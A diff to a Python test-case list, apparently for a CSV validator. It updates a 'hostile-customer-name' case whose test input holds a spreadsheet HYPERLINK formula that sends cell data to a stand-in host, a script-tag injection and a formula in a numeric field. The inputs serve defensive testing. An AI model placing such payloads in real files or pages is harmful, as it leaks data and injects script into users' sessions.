@@ -330,8 +330,8 @@ CASES: list[Case] = [
     ),
     Case(
         "hostile-customer-name",
-        with_line("customers", 'H1,"=HYPERLINK(""http://x/?""&A1,""open"")<script>x</script>",u,\n'),
-        finding=("missing_optional", "customers", "credit_limit", 6),
+        with_line("customers", 'H1,"=HYPERLINK(""http://x/?""&A1,""open"")<script>x</script>",u,=1+1\n'),
+        finding=("unparseable_value", "customers", "credit_limit", 6),  # a formula for a number: a finding
     ),
     # ---- quirks that must simply work ----
     Case("semicolon-delimited", {"orders.csv": TINY["orders"].replace(",", ";")}, kri=("revenue_growth", CLEAN_GROWTH)),
